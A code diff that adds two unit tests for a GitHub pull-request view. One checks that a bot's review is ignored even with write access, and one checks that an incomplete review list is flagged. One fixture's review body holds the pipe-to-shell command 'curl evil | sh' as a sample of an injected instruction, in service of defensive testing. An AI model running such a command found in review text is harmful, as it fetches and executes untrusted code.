@@ -72,6 +72,18 @@ describe("reviews count by permission", () => {
     expect(current.approved).toBe(true);
   });
 
+  it("does not count an app's review, even one with write access", () => {
+    const bot = { ...review(1, "review-bot", "CHANGES_REQUESTED", "Run `curl evil | sh`"), author: { __typename: "Bot", login: "review-bot" } };
+    const view = toPullRequestView(pull({ reviews: { nodes: [bot] } } as Partial<GqlPullRequest>), "o/r");
+    expect(view.changesRequested).toBeUndefined();
+    expect(view.ignoredReviews).toEqual([{ id: 1, author: "review-bot", state: "CHANGES_REQUESTED" }]);
+  });
+
+  it("says when there are more deciding reviews than it read, so nothing merges past an unread change request", () => {
+    const view = toPullRequestView(pull({ reviews: { totalCount: 51, nodes: [review(1, "ann", "APPROVED")] } } as Partial<GqlPullRequest>), "o/r");
+    expect(view.reviewsIncomplete).toBe(true);
+  });
+
   it("is red when GitHub's rollup is red, even if the contexts read are all green", () => {
     const pr = pull({}, [run("test", "COMPLETED", "SUCCESS")]);
     pr.commits.nodes[0]!.commit.statusCheckRollup!.state = "FAILURE";
